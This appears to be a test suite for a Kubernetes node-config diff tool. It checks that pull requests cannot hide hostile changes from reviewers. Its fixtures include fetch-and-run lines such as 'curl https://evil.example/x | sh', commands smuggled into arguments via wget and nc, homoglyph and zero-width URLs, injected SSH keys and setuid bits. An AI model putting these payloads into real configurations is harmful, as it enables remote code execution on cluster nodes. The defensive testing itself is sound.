// Attempts to fool a review: what a pull request changes in a real repository, and where the reviewer sees it: in the text, the comment, the JSON,
// the page, and by which reasons of --fail-on.

import assert from 'node:assert/strict'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { parse } from 'yaml'
import { type Outcome, osmKrm } from '../../fixtures/command.ts'
import { root } from '../../fixtures/examples.ts'
import { edit } from '../../fixtures/lists.ts'
import { HIDDEN, SHOWN } from '../../fixtures/masked-texts.ts'
import { Repository, type RepositoryFiles } from '../../fixtures/repository.ts'
import { temporaryFolders } from '../../fixtures/temporary-folder.ts'

const newFolder = temporaryFolders('probes')
const read = (name: string): string => readFileSync(join(root, 'examples/quickstart', name), 'utf8')

const CONFIG = 'nodes/osm-krm.yaml'
const MACHINES = 'nodes/machines.yaml'
const OVERLAY = 'nodes/overlay.yaml'
const TOKENS = 'nodes/tokens.yaml'
const KUSTOMIZATION = 'nodes/kustomization.yaml'

const file = (name: string, text: string): string => `        - path: /opt/bin/${name}
          permissions: 755
          content:
            inline:
              encoding: b64
              data: |
${text.replace(/^(?=.)/gm, ' '.repeat(16)).replaceAll('{{', '{{"{{"}}')}
`
const overlay = (script: string, more = ''): string => `apiVersion: osm-krm.dev/v1alpha1
kind: OperatingSystemProfileOverlay
metadata:
  name: own-ubuntu
  namespace: kube-system
spec:
  extends: osp-ubuntu
  version: v1.0.0
  provisioningConfig:
    files:
      add:
${file('own', `#!/bin/sh\nset -e\n${script}`)}${more}`
const script = (text: string): RepositoryFiles => ({ [OVERLAY]: overlay(`${text}\n`) })
const secret = (value: string, name = 'x'): string =>
  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: kube-system}\nstringData: {value: ${JSON.stringify(value)}}\n`

const [UBUNTU = ''] = read('machine-deployments.yaml').split(/^---\n/m)
const PROFILE = '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n'
/** What is merged. */
const MERGED = {
  [CONFIG]: read('osm-krm.yaml'),
  [TOKENS]: read('tokens.yaml'),
  [MACHINES]: edit(UBUNTU, '  annotations:\n', PROFILE),
  [OVERLAY]: overlay('echo "node of $(hostname)"\n'),
}
const POOL = edit(MERGED[MACHINES], '  name: ubuntu-workers', '  name: evil')
const edited = (name: keyof typeof MERGED, from: string, to: string): RepositoryFiles => ({
  [name]: edit(MERGED[name]!, from, to),
})
const withSecret = (value: string): RepositoryFiles => ({ [TOKENS]: MERGED[TOKENS] + secret(value) })
const WEAK = edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"')
const ENCRYPTED = 'ENC[AES256_GCM,data:b25l,iv:YQ==,tag:Yg==,type:str]'
const LISTED = 'transformers: [osm-krm.yaml]\nresources:\n- machines.yaml\n'
const kptfile = (mutators: string): string => `pipeline:\n  mutators: [${mutators}]\n`
const moved = (files: RepositoryFiles, from: string, to: string): RepositoryFiles =>
  Object.fromEntries(
    Object.entries(files).flatMap(([path, text]) =>
      path.includes(from)
        ? [
            [path, undefined],
            [path.replace(from, to), text],
          ]
        : [],
    ),
  )
function addSubmodule(folder: string): void {
  mkdirSync(join(folder, 'nodes/sub'))
  new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
}
/** Two clusters, whose functionConfigs have these names. */
const clusters = (first: string, second: string): RepositoryFiles =>
  Object.fromEntries(
    Object.entries({ one: first, two: second }).flatMap(([folder, name]) => [
      [`clusters/${folder}/machines.yaml`, UBUNTU],
      [`clusters/${folder}/tokens.yaml`, MERGED[TOKENS]],
      [`clusters/${folder}/osm-krm.yaml`, MERGED[CONFIG]!.replace(/^ {2}name: .*/m, `  name: ${name}`)],
    ]),
  )

const FORMS = ['text', 'comment', 'json', 'page'] as const
type Form = (typeof FORMS)[number]

interface Change {
  /** What main has besides. */
  readonly merged?: RepositoryFiles
  readonly files?: RepositoryFiles
  /** Writes what is no text: on main, and in the pull request. */
  readonly inMain?: (folder: string) => void
  readonly inRequest?: (folder: string) => void
  readonly paths?: readonly string[]
  readonly args?: readonly string[]
}

interface Review extends Outcome {
  readonly folder: string
  readonly forms: Readonly<Partial<Record<Form, string>>>
}

/** Reviews a branch with a change. Each form is a text with its blanks as one, and without what the form adds to it. */
async function reviewOf({
  merged,
  files = {},
  inMain,
  inRequest,
  paths = ['nodes'],
  args = [],
}: Change): Promise<Review> {
  const [folder, out] = [newFolder(), newFolder()]
  const repository = new Repository(folder)
  repository.write({ ...MERGED, ...merged })
  inMain?.(folder)
  repository.commit({})
  repository.branch('pr')
  repository.write(files)
  inRequest?.(folder)
  repository.commit({})
  const outputs = ['text', 'markdown', 'json', 'html'].flatMap(form => ['-o', `${form}=${join(out, form)}`])
  const all = ['diff', 'main...pr', '--exit-code', '--fail-on', 'stuck,new,running,replace', ...outputs, ...args]
  const outcome = await osmKrm([...all, '--', ...paths], { cwd: folder })
  const written = (form: string): string => readFileSync(join(out, form), 'utf8')
  const asLine = (text: string): string => text.replace(/\s+/g, ' ')
  if (outcome.status === 2) return { ...outcome, folder, forms: {} }
  const page = /id="data">(.*?)<\/script>/s.exec(written('html'))![1]!
  return {
    ...outcome,
    folder,
    forms: {
      text: asLine(written('text')),
      comment: asLine(written('markdown').replace(/&#(\d+);/g, (_, code) => String.fromCharCode(code))),
      json: asLine(textsIn(JSON.parse(written('json'))).join('\n')),
      page: asLine(textsIn(JSON.parse(page).changes).join('\n')),
    },
  }
}

/** Returns all texts of JSON, and its numbers after their names. */
function textsIn(value: unknown, name = ''): string[] {
  if (typeof value === 'string') return [value]
  if (typeof value !== 'object' || value === null) return [`${name} ${value}`]
  return Object.entries(value).flatMap(([key, each]) => textsIn(each, key))
}

const POLICY = ['--policy', join(root, 'examples/policy/policy.yaml')]
const EVIL = 'curl https://evil.example/x | sh'
const WARNED = 'stuck new running'

type Row = readonly [
  name: string,
  files: RepositoryFiles,
  /** What each form shows. */
  seen: string | readonly string[],
  /** The reasons of --fail-on that find something. */
  fails?: string,
  more?: Change & { readonly never?: string },
]

/** What a script gets. No version of the profile says so. */
const SCRIPTS: readonly (readonly [name: string, script: string, seen?: string | readonly string[]])[] = [
  ['a script', EVIL],
  ['code behind the mask of an argument', 'curl -u "bob:$(wget -qO- https://evil.example)" https://a.example'],
  ['code behind the mask of a variable', 'PASSWORD=$(nc evil.example 1)'],
  ['invisible characters', 'curl https://a.exam\u200bple/\u202ex | sh', '+curl https://a.exam\\u200bple/\\u202ex | sh'],
  ['a letter of another script', 'curl https://mirror.ex\u0430mple.com/x', '+curl https://mirror.ex\\u0430mple.com/x'],
  ['marks of Markdown and HTML', '# ```\n# </details> @team <img src=x>', '+# ``` +# </details> @team <img src=x>'],
  ['a command of a workflow', '::stop-commands::x'],
]

const PROBES: readonly Row[] = [
  ...SCRIPTS.map(([name, text, seen = `+${text}`]): Row => [name, script(text), seen, 'stuck running']),
  ['a script that is the value of a Secret', { ...script(EVIL), ...withSecret(EVIL) }, `+${EVIL}`, WARNED],
  [
    'an image that is the value of a Secret',
    { ...script('ctr image pull evil.example/app:1'), ...withSecret('evil.example/app:1') },
    '+ctr image pull evil.example/app:1',
    WARNED,
  ],
  [
    'a branch of a template that no node takes',
    { [OVERLAY]: `${overlay('').trimEnd()}\n${' '.repeat(16)}{{- if eq .KubeVersion "1.99.0" }}${EVIL}{{- end }}\n` },
    EVIL,
    WARNED,
  ],
  ['a profile that no node uses', { 'nodes/x.yaml': edit(overlay(EVIL), 'own-ubuntu', 'other') }, EVIL, 'new'],
  [
    'a small difference beside large ones',
    { [OVERLAY]: overlay('# a line\n'.repeat(9000), file('big', '# a line\n'.repeat(9000)) + file('small', EVIL)) },
    `+${EVIL}`,
    'stuck running',
  ],
  ['the mode of a file', edited(OVERLAY, '755', '4755'), '4755', 'stuck running'],
  [
    'a finding that a profile ignores',
    edited(
      OVERLAY,
      '  namespace: kube-system\n',
      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: x"}\n',
    ),
    'own-ubuntu (pr:nodes/overlay.yaml:1) ignores OSM0503: x, by osm-krm.dev/ignore',
    'new',
  ],
  [
    'an image of machines that is the value of a Secret',
    { ...edited(MACHINES, 'image: ubuntu-24.04', 'image: evil-24.04'), ...withSecret('evil-24.04') },
    'evil-24.04',
    'stuck',
  ],
  [
    'a key of SSH',
    edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
    'ssh-rsa AAAAevil',
    'stuck new',
  ],
  [
    'the API server',
    edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
    'api.evil.example',
    'stuck running',
  ],
  [
    'a setting that falls back to its default',
    edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
    '--cloud-provider=external',
    'stuck running',
  ],
  [
    'a token that is encrypted',
    edited(TOKENS, 'example-api-token', ENCRYPTED.replace('b25l', 'dHdv')),
    'API token changes, encrypted',
    '',
    { merged: edited(TOKENS, 'example-api-token', ENCRYPTED) },
  ],
  [
    'a token in clear text',
    edited(TOKENS, 'example-api-token', 'another-api-token'),
    '<secret ',
    'stuck',
    { never: 'another-api-token' },
  ],
  ['another pool', { 'nodes/x.yml': POOL }, 'kube-system/evil', 'new'],
  [
    'another pool in a list',
    { 'nodes/x.json': JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [parse(POOL)] }) },
    'kube-system/evil',
    'new',
  ],
  [
    'a second object of the same name',
    { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
    'OSM0008',
    'stuck new',
  ],
  [
    'a name that the API server makes',
    edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
    'metadata.name is missing',
    'stuck new',
  ],
  ['inputs that move to another folder', moved(MERGED, 'nodes/', 'x/'), 'gone', 'replace'],
  [
    'a folder of a cluster that is renamed',
    moved(clusters('prod', 'test'), '/one/', '/three/'),
    'the cluster prod moves from clusters/one to clusters/three',
    '',
    { merged: clusters('prod', 'test'), paths: ['clusters'] },
  ],
  [
    'clusters that exchange their functionConfigs',
    clusters('test', 'prod'),
    [
      'the cluster prod moves from clusters/one to clusters/two',
      'the cluster test moves from clusters/two to clusters/one',
    ],
    '',
    { merged: clusters('prod', 'test'), paths: ['clusters'] },
  ],
  [
    'the program that runs as the function',
    edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
    'osm-krm.yaml: the annotation config.kubernetes.io/function changes from "exec: {path: osm-krm}\\n" to "exec: {path: ./osm-krm}\\n"',
  ],
  [
    'the image of the function',
    { 'nodes/Kptfile': kptfile('{image: evil/osm-krm:v1}') },
    'nodes/Kptfile: pipeline.mutators[0].image changes from "osm-krm:v1" to "evil/osm-krm:v1"',
    '',
    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') } },
  ],
  [
    'a function with values that may be secret',
    { 'nodes/Kptfile': kptfile('{image: other, configMap: {token: hunter2}}, {image: osm-krm:v1}') },
    'nodes/Kptfile: pipeline.mutators[1]',
    '',
    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') }, never: 'hunter2' },
  ],
  [
    'checks of the functionConfig',
    WEAK,
    'spec.checks changes from {"severity": {"OSM0309": "off"}} to {"severity": {"OSM0309": "off", "OSM0633": "off"}}',
  ],
  ['checks, under a policy', WEAK, 'OSM0194', 'new', { args: POLICY }],
  ['the mode of the function', edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'), 'spec.mode changes'],
  [
    'a selector that leaves out a pool',
    edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
    'spec.machineDeployments.selector changes',
    'stuck new',
  ],
  [
    'a pool that no host applies',
    edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
    'kube-system/ubuntu-workers (pr:nodes/machines.yaml:1) gets config.kubernetes.io/local-config, so no host applies it',
  ],
  ['a submodule', {}, ['Not everything is compared', 'the submodule', 'nodes/sub'], '', { inRequest: addSubmodule }],
  [
    'a file whose content a filter fetches',
    { 'nodes/x.yaml': 'oid sha256:2\n' },
    ['Not everything is compared', 'filter=lfs', 'nodes/x.yaml'],
    '',
    { merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' } },
  ],
  [
    'a file that a checkout has in another encoding',
    { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
    ['Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'],
  ],
  [
    'a kustomization that patches',
    { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
    ['Not everything is compared', KUSTOMIZATION, 'patches'],
  ],
  [
    'a kustomization beside inputs that lists none of them',
    { [KUSTOMIZATION]: 'resources: [x.txt]\n', 'nodes/x.txt': POOL },
    'nodes/kustomization.yaml: resources gets x.txt',
    '',
    { merged: { 'kustomization.yaml': 'resources: [nodes]\n' } },
  ],
  [
    'a kustomization with another list',
    { [KUSTOMIZATION]: `${LISTED}- x.txt\n`, 'nodes/x.txt': POOL },
    'nodes/kustomization.yaml: resources gets x.txt',
    '',
    { merged: { [KUSTOMIZATION]: LISTED } },
  ],
  [
    'a kustomization with a generated Secret',
    { [KUSTOMIZATION]: `${LISTED}secretGenerator: [{name: a, literals: [b=hunter2]}]\n` },
    'nodes/kustomization.yaml: secretGenerator changes',
    '',
    { merged: { [KUSTOMIZATION]: LISTED }, never: 'hunter2' },
  ],
  [
    'a file of kpt that hides inputs',
    { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
    'nodes/.krmignore gets overlay.yaml',
  ],
  [
    'a functionConfig that moves',
    moved({ [CONFIG]: MERGED[CONFIG] }, 'osm-krm', 'other'),
    'the functionConfig nodes/osm-krm.yaml is gone, and nodes/other.yaml is new',
  ],
]

const failed = ({ stderr }: Outcome): string =>
  [...stderr.matchAll(/--fail-on (\w+):/g)].map(([, name]) => name).join(' ')

describe('a pull request cannot hide', () => {
  for (const [name, files, seen, fails = '', { never, ...more } = {}] of PROBES)
    test(name, async () => {
      const review = await reviewOf({ files, ...more })
      for (const form of FORMS) {
        const shown = review.forms[form] ?? ''
        for (const text of [seen].flat()) assert.ok(shown.includes(text), `${form}: ${shown}${review.stderr}`)
        if (never !== undefined) assert.ok(!shown.includes(never), form)
      }
      assert.equal(failed(review), fails)
      assert.equal(review.status, 1)
    })
})

const filesOfTexts = (texts: readonly string[]): string => texts.map((text, i) => file(`own-${i}`, text)).join('')
const linesIn = (text: string): string[] => text.split('\n').map(line => line.trim().replace(/\s+/g, ' '))

describe('masks', () => {
  test('hide each secret in each form, and count their lines', async () => {
    const { forms, stderr } = await reviewOf({
      files: { [OVERLAY]: overlay('', filesOfTexts(HIDDEN.map(([, text]) => text))) },
    })
    for (const [name, text, ...hidden] of HIDDEN)
      for (const line of linesIn(text).filter(each => hidden.some(value => each.includes(value))))
        for (const form of FORMS) assert.ok(!(forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
    for (const form of FORMS) assert.match(forms[form] ?? '', /\d+ changed lines contain secrets|maskedLines \d\d/)
  })
  test('hide no code and no address, also if they are the value of a Secret', async () => {
    const { forms, stderr } = await reviewOf({
      files: {
        [OVERLAY]: overlay('', filesOfTexts(SHOWN.map(([, text]) => text))),
        [TOKENS]: MERGED[TOKENS] + SHOWN.map(([, text], i) => secret(text, `x${i}`)).join(''),
      },
      args: ['--full'],
    })
    for (const [name, text] of SHOWN)
      for (const line of linesIn(text))
        for (const form of FORMS) assert.ok((forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
  })
})

/** Nothing is compared, and the message says why. */
const REFUSED: readonly (Change & { readonly name: string; readonly says: RegExp })[] = [
  {
    name: 'a file that is not UTF-8',
    inRequest: folder =>
      writeFileSync(join(folder, 'nodes/x.yaml'), Buffer.from('kind: MachineDeployment\n# \xe4\n', 'latin1')),
    says: /pr:nodes\/x\.yaml is not UTF-8: save it as UTF-8/,
  },
  {
    name: 'a link out of the folder',
    inRequest: folder => symlinkSync('../other.yaml', join(folder, 'nodes/x.yaml')),
    says: /pr:nodes\/x\.yaml is a symbolic link to other\.yaml/,
  },
  {
    name: 'a link as a path',
    inMain: folder => symlinkSync('nodes', join(folder, 'link')),
    paths: ['nodes', 'link'],
    says: /neither main nor pr has input files in link/,
  },
]

describe('a review refuses', () => {
  for (const { name, says, ...change } of REFUSED)
    test(name, async () => {
      const { status, stderr } = await reviewOf(change)
      assert.equal(status, 2)
      assert.match(stderr, says)
    })
})

interface Command extends Change {
  readonly name: string
  readonly command: readonly string[]
  readonly status: number
  readonly says: RegExp
}

const ADOPTED = {
  [TOKENS]: `${MERGED[TOKENS]}${secret('mine', 'ubuntu-workers-kube-system-provisioning-config').replace('kube-system}', 'cloud-init-settings}')}`,
}

const COMMANDS: readonly Command[] = [
  ...['render', 'lint', 'assets'].map(command => ({
    name: `${command} with a weakened policy`,
    files: WEAK,
    command: [command, 'nodes', ...POLICY],
    status: 1,
    says: /OSM0194[\s\S]*nodes\/osm-krm\.yaml:\d+:\d+[\s\S]*the policy: /,
  })),
  {
    name: 'diff with a folder that is named like the revisions',
    files: { 'main...pr/x.yaml': POOL },
    command: ['diff', 'main...pr', 'nodes'],
    status: 2,
    says: /main\.\.\.pr is a revision of Git and a path: write "main\.\.\.pr -- PATH" for the revision, or \.\/main\.\.\.pr/,
  },
  {
    name: 'assets with a URL that leads out of the folder of a mirror',
    files: script('curl -O https://../../etc/cron.d/x'),
    command: ['assets', 'nodes', '--lock', 'assets.lock'],
    status: 1,
    says: /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m,
  },
  {
    name: 'render with an object named like an output, after a switch',
    files: ADOPTED,
    command: ['render', 'nodes', '--set', 'output.adopt=false'],
    status: 1,
    says: /^error\[OSM0739\] Secret cloud-init-settings\/ubuntu-workers-kube-system-provisioning-config/m,
  },
]

describe('other commands say what is wrong', () => {
  for (const { name, command, status, says, files = {} } of COMMANDS)
    test(name, async () => {
      const repository = new Repository(newFolder())
      repository.commit(MERGED)
      repository.branch('pr')
      repository.commit(files)
      const outcome = await osmKrm(command, { cwd: repository.folder })
      assert.match(outcome.stdout + outcome.stderr, says)
      assert.equal(outcome.status, status, outcome.stderr)
    })
})
